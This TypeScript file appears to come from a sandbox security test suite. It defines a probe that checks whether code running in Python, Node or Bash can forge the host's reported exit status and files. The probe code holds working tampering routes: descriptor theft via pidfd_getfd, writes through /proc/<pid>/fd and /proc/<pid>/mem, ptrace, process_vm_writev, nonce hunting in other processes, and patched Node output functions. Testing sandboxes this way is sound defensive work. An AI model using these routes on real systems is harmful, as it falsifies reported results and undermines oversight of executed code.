import type { RunOutput, SuiteContext } from '../../context.js';
import {
  FORGED_PREFIX,
  bashCode,
  bashForgeryToolkit,
  forgedTrailerBody,
  hostPidNamespace,
  nodeForgeryToolkit,
  pythonForgeryToolkit,
} from './forgery.js';
import { bashProbe, nodeProbe, pythonProbe } from '../prelude.js';
import type { PropertyProbe } from './probe.js';

type Runtime = 'node' | 'python' | 'bash';

/** The exit code every run of this probe ends with, honest or forging. */
const EXIT_CODE = 7;
/** Written just before the exit: a host that collects on a forged status misses it. */
const LATE_FILE = 'late.txt';
/** The forged trailer's own file too, so the host's pattern check alone cannot drop it. */
const COLLECT = [LATE_FILE, 'forged.txt'];
/** Time a forged status has to make the host collect early, before the late file exists. */
const LATE_DELAY_S = 0.5;
/** Memory read looking for nonces, over this process and the others it can see. */
const MEMORY_BUDGET_MIB = 96;

const lateContent = (nonce: string) => `cordon-late-${nonce}`;

/**
 * Result integrity, from one runtime: the program tries every generic route to
 * forge what the host reports (status, exit code, signal, files, trailer), then
 * writes `late.txt` and exits 7. It holds only when the result says exactly
 * that. The control is an honest run of the same shape.
 */
export function resultIntegrity(language: Runtime): PropertyProbe {
  return {
    id: `result-integrity:${language}`,
    title: `status, exit code, signal and files are not forgeable from ${language} (descriptors, /proc/<pid>/mem, ptrace, nonce hunting, forged trailers)`,
    language,
    async check(context) {
      const controlNonce = context.nonce();
      const control = await context.run(
        'sandbox',
        { language, code: honestCode(context, language, controlNonce), collectFiles: COLLECT },
        controlNonce,
      );
      const nonce = context.nonce();
      const probe = await context.run(
        'sandbox',
        { language, code: forgingCode(context, language, nonce), collectFiles: COLLECT },
        nonce,
      );
      const problems = resultProblems(probe, nonce);
      const controlProblems = resultProblems(control, controlNonce);
      const routes = Object.entries(probe.output.facts)
        .filter(([key]) => key.startsWith('route.'))
        .map(([key, value]) => `${key.slice('route.'.length)}: ${value}`);
      const bothThrew = probe.record.error !== undefined && control.record.error !== undefined;
      return [
        {
          observation: {
            holds: problems.length === 0,
            reason: `${problems.length === 0 ? `status error, exit code ${EXIT_CODE}, late.txt collected, nothing forged` : problems.join('; ')}; routes: ${routes.join('; ') || 'none reported (output lost)'}`,
            controlOk: controlProblems.length === 0,
            controlReason: `the honest run (exit ${EXIT_CODE}, writes ${LATE_FILE}) gave: ${controlProblems.join('; ')}`,
            ...(bothThrew ? { error: `the runs could not be made: ${probe.record.error}` } : {}),
          },
          probe: probe.record,
          control: control.record,
        },
      ];
    },
  };
}

/** What differs from an honest exit 7 with `late.txt` collected; empty when the result is exactly that. */
function resultProblems(run: RunOutput, nonce: string): string[] {
  const result = run.result;
  if (!result) return [`no result, the run threw: ${run.record.error ?? 'unknown error'}`];
  const problems: string[] = [];
  if (result.status !== 'error') problems.push(`status ${result.status}`);
  if (result.exitCode !== EXIT_CODE) problems.push(`exit code ${result.exitCode}`);
  if (result.signal !== null) problems.push(`signal ${result.signal}`);
  const text = (content: Uint8Array) => Buffer.from(content).toString('latin1');
  const late = result.files.find((file) => file.path === LATE_FILE);
  if (!late) problems.push(`${LATE_FILE} not collected (collected before the program wrote it?)`);
  else if (text(late.content) !== lateContent(nonce)) problems.push(`${LATE_FILE} has content the program never wrote`);
  const forged = result.files.filter((file) => file.path !== LATE_FILE || text(file.content).includes(FORGED_PREFIX));
  if (forged.length > 0)
    problems.push(`forged files returned: ${forged.map((file) => JSON.stringify(file.path)).join(', ')}`);
  return problems;
}

function honestCode(context: SuiteContext, language: Runtime, nonce: string): string {
  switch (language) {
    case 'python':
      return pythonProbe(
        context.endpoints,
        nonce,
        `with open('${LATE_FILE}', 'w') as f:
    f.write('cordon-late-' + NONCE)
sys.stdout.flush()
os._exit(${EXIT_CODE})`,
      );
    case 'node':
      // A natural exit with process.exitCode: the prelude's final process.exit(0) is never reached.
      return nodeProbe(
        context.endpoints,
        nonce,
        `$r('node:fs').writeFileSync('${LATE_FILE}', 'cordon-late-' + NONCE);
process.exitCode = ${EXIT_CODE};
await new Promise(() => {});`,
      );
    case 'bash':
      return bashProbe(
        context.endpoints,
        nonce,
        [],
        `printf 'cordon-late-%s' "$NONCE" > ${LATE_FILE}
exit ${EXIT_CODE}`,
      );
  }
}

function forgingCode(context: SuiteContext, language: Runtime, nonce: string): string {
  const forged = forgedTrailerBody(nonce);
  const pidNs = hostPidNamespace();
  switch (language) {
    case 'python':
      return pythonProbe(
        context.endpoints,
        nonce,
        pythonForgeryToolkit(pidNs) +
          String.raw`FORGED = ${JSON.stringify(forged)}.encode()
def trailers():
    return b''.join(b'\0cordon:' + c.encode() + b':' + FORGED + b'\0\n' for c in CANDIDATES)
def forged_status():
    # What runners report, as lines and frames: a raw wait status of 0, a JSON status, a trailer per candidate.
    return b'S 0\n{"exitCode":0,"signal":null,"status":"ok"}\n' + trailers()
PIDFD_NR = {'x86_64': (434, 438), 'aarch64': (434, 438)}.get(platform.machine())
def fd_numbers(pid):
    try:
        return sorted(int(n) for n in os.listdir('/proc/%d/fd' % pid))
    except OSError:
        return list(range(16))
def steal(pids, payload):
    if PIDFD_NR is None:
        route('pidfd_getfd', err='no syscall numbers for ' + platform.machine())
        return
    for pid in pids:
        pidfd = LIBC.syscall(PIDFD_NR[0], pid, 0)
        if pidfd < 0:
            route('pidfd_open', err=errno_name())
            continue
        route('pidfd_open', ok=str(pid))
        try:
            for n in fd_numbers(pid):
                fd = LIBC.syscall(PIDFD_NR[1], pidfd, n, 0)
                if fd < 0:
                    route('pidfd_getfd', err=errno_name())
                    continue
                try:
                    route('pidfd_getfd', ok='%d:%d %s' % (pid, n, guarded('pidfd_getfd', write_to, fd, payload) or '(write failed)'))
                finally:
                    os.close(fd)
        finally:
            os.close(pidfd)
def reopen(pids, payload):
    for pid in pids:
        try:
            names = os.listdir('/proc/%d/fd' % pid)
        except OSError as e:
            route('open /proc/<pid>/fd/N', err=err_code(e))
            continue
        for n in names:
            try:
                fd = os.open('/proc/%d/fd/%s' % (pid, n), os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK | os.O_NOCTTY)
            except OSError as e:
                route('open /proc/<pid>/fd/N', err=err_code(e))
                continue
            try:
                route('open /proc/<pid>/fd/N', ok='%d:%s %s' % (pid, n, guarded('open /proc/<pid>/fd/N', write_to, fd, payload) or '(write failed)'))
            finally:
                os.close(fd)
def mem_for_writing(pids):
    for pid in pids:
        try:
            os.close(os.open('/proc/%d/mem' % pid, os.O_RDWR))
            route('open /proc/<pid>/mem for writing', ok=str(pid))
        except OSError as e:
            route('open /proc/<pid>/mem for writing', err=err_code(e))
def trace(pids):
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    LIBC.ptrace.restype = ctypes.c_long
    for pid in pids:
        if LIBC.ptrace(0x4206, pid, None, None) != 0:
            route('ptrace attach', err=errno_name())
            continue
        route('ptrace attach', ok=str(pid))
        # Let it go at once: interrupt, wait for the stop, detach.
        LIBC.ptrace(0x4207, pid, None, None)
        deadline = time.time() + 0.5
        while time.time() < deadline:
            try:
                if os.waitpid(pid, os.WNOHANG | 0x40000000)[0] == pid:
                    break
            except ChildProcessError:
                break
            time.sleep(0.005)
        LIBC.ptrace(17, pid, None, None)
class IoVec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
def vm_writev(pids):
    for pid in pids:
        try:
            start = next(start for start, _, writable in regions(pid) if writable)
        except (OSError, StopIteration):
            route('process_vm_writev', err='no writable mapping visible')
            continue
        # Reads one byte and writes it back as it was: proof of the route, no change.
        byte = ctypes.create_string_buffer(1)
        local, remote = IoVec(ctypes.cast(byte, ctypes.c_void_p), 1), IoVec(start, 1)
        if LIBC.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != 1:
            route('process_vm_writev', err=errno_name())
        elif LIBC.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) != 1:
            route('process_vm_writev', err=errno_name())
        else:
            route('process_vm_writev', ok=str(pid))
try:
    pids = guarded('/proc', targets) or []
    guarded('own env', hunt_env)
    guarded('read /proc/<pid>/cmdline', hunt_proc, pids)
    guarded('sys._getframe chain', hunt_frames)
    guarded('read /proc/<pid>/mem', hunt_memory, ['self'] + [str(pid) for pid in pids], ${MEMORY_BUDGET_MIB} << 20)
    payload = forged_status()
    for fd in (1, 2):
        guarded('forged trailers', os.write, fd, trailers())
    note('forged trailers', '%d nonce candidates, on stdout and stderr' % len(CANDIDATES))
    guarded('pidfd_getfd', steal, pids, payload)
    guarded('open /proc/<pid>/fd/N', reopen, pids, payload)
    guarded('open /proc/<pid>/mem for writing', mem_for_writing, pids)
    guarded('ptrace attach', trace, pids)
    guarded('process_vm_writev', vm_writev, pids)
    report_routes()
finally:
    time.sleep(${LATE_DELAY_S})
    with open('${LATE_FILE}', 'w') as f:
        f.write('cordon-late-' + NONCE)
    sys.stdout.flush()
    os._exit(${EXIT_CODE})`,
      );
    case 'node':
      return nodeProbe(
        context.endpoints,
        nonce,
        nodeForgeryToolkit(pidNs) +
          String.raw`const FORGED = Buffer.from(${JSON.stringify(forged)});
const trailers = () => Buffer.concat(CANDIDATES.map((c) => Buffer.concat([Buffer.from('\0cordon:' + c + ':'), FORGED, Buffer.from('\0\n')])));
const forgedStatus = () => Buffer.concat([Buffer.from('S 0\n{"exitCode":0,"signal":null,"status":"ok"}\n'), trailers()]);
const original = { writeSync: fs.writeSync, write: fs.write, exit: process.exit, reallyExit: process.reallyExit };
const asBuffer = (data) => (typeof data === 'string' ? Buffer.from(data) : ArrayBuffer.isView(data) ? Buffer.from(data.buffer, data.byteOffset, data.byteLength) : undefined);
// A runner that runs the program in this very interpreter writes its trailer through functions they share: rewrite it on the way out.
const rewrite = (data, via) => {
  const buffer = asBuffer(data);
  const at = buffer ? buffer.indexOf('\0cordon:') : -1;
  const end = at < 0 ? -1 : buffer.indexOf(':', at + 8);
  if (end < 0 || !/^[0-9A-Za-z_-]{8,128}$/.test(buffer.toString('latin1', at + 8, end))) return undefined;
  route('patched ' + via, 'rewrote a trailer');
  return Buffer.concat([buffer.subarray(0, end + 1), FORGED, Buffer.from('\0')]);
};
const writeAll = (fd, buffer) => { for (let at = 0; at < buffer.length;) at += original.writeSync.call(fs, fd, buffer, at, buffer.length - at); };
const patch = () => {
  fs.writeSync = function (fd, data, ...rest) {
    const forged = rewrite(data, 'fs.writeSync');
    if (!forged) return original.writeSync.call(fs, fd, data, ...rest);
    writeAll(fd, forged);
    // The caller's write loop must end: report everything it asked for as written.
    return typeof rest[1] === 'number' ? rest[1] : asBuffer(data).length - (typeof rest[0] === 'number' ? rest[0] : 0);
  };
  fs.write = function (fd, data, ...rest) {
    const forged = rewrite(data, 'fs.write');
    const callback = rest.find((arg) => typeof arg === 'function');
    if (!forged) return original.write.call(fs, fd, data, ...rest);
    return original.write.call(fs, fd, forged, 0, forged.length, null, (error) => callback && callback(error, asBuffer(data).length, data));
  };
  for (const stream of [process.stdout, process.stderr]) {
    const write = stream.write;
    stream.write = function (chunk, ...rest) { return write.call(this, rewrite(chunk, 'process.std*.write') || chunk, ...rest); };
  }
  // Only someone else calling these is affected: this program ends by a natural exit with process.exitCode.
  process.exit = function (code) { route('patched process.exit', 'called with ' + code); return original.exit.call(process, 0); };
  process.reallyExit = function (code) { route('patched process.reallyExit', 'called with ' + code); return original.reallyExit.call(process, 0); };
};
const reopen = (pids, payload) => {
  for (const pid of pids) {
    let names;
    try { names = fs.readdirSync('/proc/' + pid + '/fd'); } catch (e) { route('open /proc/<pid>/fd/N', undefined, errCode(e)); continue; }
    for (const n of names) {
      let fd;
      try { fd = fs.openSync('/proc/' + pid + '/fd/' + n, fs.constants.O_WRONLY | fs.constants.O_APPEND | fs.constants.O_NONBLOCK | fs.constants.O_NOCTTY); } catch (e) { route('open /proc/<pid>/fd/N', undefined, errCode(e)); continue; }
      try { route('open /proc/<pid>/fd/N', pid + ':' + n + ' ' + (guarded('open /proc/<pid>/fd/N', () => writeTo(fd, payload)) || '(write failed)')); } finally { fs.closeSync(fd); }
    }
  }
};
const memForWriting = (pids) => {
  for (const pid of pids) {
    try { fs.closeSync(fs.openSync('/proc/' + pid + '/mem', 'r+')); route('open /proc/<pid>/mem for writing', String(pid)); } catch (e) { route('open /proc/<pid>/mem for writing', undefined, errCode(e)); }
  }
};
try {
  guarded('patched shared functions', patch);
  note('patched shared functions', 'fs.writeSync, fs.write, process.stdout/stderr.write, process.exit, process.reallyExit');
  const pids = guarded('/proc', targets) || [];
  guarded('own env', huntEnv);
  guarded('read /proc/<pid>/cmdline', () => huntProc(pids));
  guarded('read /proc/<pid>/mem', () => huntMemory(['self', ...pids], ${MEMORY_BUDGET_MIB} << 20));
  const payload = forgedStatus();
  for (const fd of [1, 2]) guarded('forged trailers', () => writeAll(fd, trailers()));
  note('forged trailers', CANDIDATES.length + ' nonce candidates, on stdout and stderr');
  guarded('open /proc/<pid>/fd/N', () => reopen(pids, payload));
  guarded('open /proc/<pid>/mem for writing', () => memForWriting(pids));
  for (const name of ['pidfd_getfd', 'ptrace attach', 'process_vm_writev']) note(name, 'not possible from node (no raw syscalls)');
  reportRoutes();
} finally {
  await new Promise((resolve) => setTimeout(resolve, ${LATE_DELAY_S * 1000}));
  fs.writeFileSync('${LATE_FILE}', 'cordon-late-' + NONCE);
  process.exitCode = ${EXIT_CODE};
}
await new Promise(() => {});`,
      );
    case 'bash':
      return bashProbe(
        context.endpoints,
        nonce,
        [],
        bashForgeryToolkit(pidNs) +
          bashCode(String.raw`FORGED='${forged}'
trailers() { local c; for c in "@{CANDIDATES[@]}"; do printf '\0cordon:%s:%s\0\n' "$c" "$FORGED"; done; }
forged_status() { printf 'S 0\n{"exitCode":0,"signal":null,"status":"ok"}\n'; trailers; }
errno_of() {
  case "$1" in
    *'not permitted'*) echo EPERM;; *'ermission denied'*) echo EACCES;; *'o such device or address'*) echo ENXIO;;
    *'o such process'*) echo ESRCH;; *'o such file'*) echo ENOENT;; *) echo "@{1:0:40}";;
  esac
}
steal() {
  command -v perl >/dev/null || { note pidfd_getfd 'no perl to make the syscalls'; return; }
  local numbers line; case "$(uname -m 2>/dev/null)" in x86_64|aarch64) numbers='434 438';; *) note pidfd_getfd 'no syscall numbers for this machine'; return;; esac
  # perl's syscall() is the one way a shell reaches pidfd_open/pidfd_getfd.
  while read -r line; do
    set -- $line
    if [ "$2" = ok ]; then route "$1" ok "$3"; else route "$1" err "$(case "$3" in 1) echo EPERM;; 3) echo ESRCH;; 9) echo EBADF;; 13) echo EACCES;; 22) echo EINVAL;; 38) echo ENOSYS;; *) echo "errno $3";; esac)"; fi
  done < <(CANDS="@{CANDIDATES[*]}" FORGED="$FORGED" perl -e '
    use IO::Select;
    $SIG{PIPE} = "IGNORE"; $| = 1;
    my ($open, $getfd, @pids) = @ARGV;
    my $payload = "S 0\n{\"exitCode\":0,\"signal\":null,\"status\":\"ok\"}\n" . join("", map { "\0cordon:$_:$ENV{FORGED}\0\n" } split(/ /, $ENV{CANDS}));
    for my $pid (@pids) {
      my $pidfd = syscall($open, $pid + 0, 0);
      if ($pidfd < 0) { print "pidfd_open err ", $! + 0, "\n"; next }
      print "pidfd_open ok $pid\n";
      my $d;
      my @fds = opendir($d, "/proc/$pid/fd") ? grep { /^\d+$/ } readdir($d) : (0 .. 15);
      for my $n (@fds) {
        my $fd = syscall($getfd, $pidfd, $n + 0, 0);
        if ($fd < 0) { print "pidfd_getfd err ", $! + 0, "\n"; next }
        open(my $h, ">&=", $fd) or next;
        if (-S $h) { send($h, $payload, 0x4040) } elsif (-p $h) { syswrite($h, $payload) if IO::Select->new($h)->can_write(0) } elsif (-f $h) { syswrite($h, $payload) }
        print "pidfd_getfd ok $pid:$n\n";
        close($h);
      }
    }' $numbers "@{PIDS[@]}" 2>/dev/null)
}
reopen() {
  local pid fd err
  for pid in "@{PIDS[@]}"; do
    for fd in /proc/$pid/fd/*; do
      [ -e "$fd" ] || { route 'open /proc/<pid>/fd/N' err EACCES; continue; }
      [ -c "$fd" ] && continue
      # Opening a pipe for writing waits for a reader: bounded by timeout, or pipes are left alone.
      if [ -p "$fd" ]; then command -v timeout >/dev/null || continue; err=$(timeout 1 bash -c 'printf "%s" "$1" >> "$2"' _ "$(forged_status | tr -d '\0')" "$fd" 2>&1)
      else err=$( { forged_status >&9; } 2>&1 9>>"$fd" ); fi
      if [ $? -eq 0 ]; then route 'open /proc/<pid>/fd/N' ok "$pid:@{fd##*/}"; else route 'open /proc/<pid>/fd/N' err "$(errno_of "$err")"; fi
    done
  done
}
mem_for_writing() {
  local pid
  for pid in "@{PIDS[@]}"; do
    if ( exec 8<>"/proc/$pid/mem" ) 2>/dev/null; then route 'open /proc/<pid>/mem for writing' ok "$pid"; else route 'open /proc/<pid>/mem for writing' err "$(errno_of "$( ( exec 8<>"/proc/$pid/mem" ) 2>&1)")"; fi
  done
}
targets
hunt_env
hunt_proc
hunt_memory $((${MEMORY_BUDGET_MIB} * 256))
trailers
trailers >&2
note 'forged trailers' "@{#CANDIDATES[@]} nonce candidates, on stdout and stderr"
steal
reopen
mem_for_writing
note 'ptrace attach' 'not possible from bash'
note process_vm_writev 'not possible from bash'
report_routes
sleep ${LATE_DELAY_S} 2>/dev/null || read -rt ${LATE_DELAY_S} <> <(:) || :
printf 'cordon-late-%s' "$NONCE" > ${LATE_FILE}
exit ${EXIT_CODE}`),
      );
  }
}
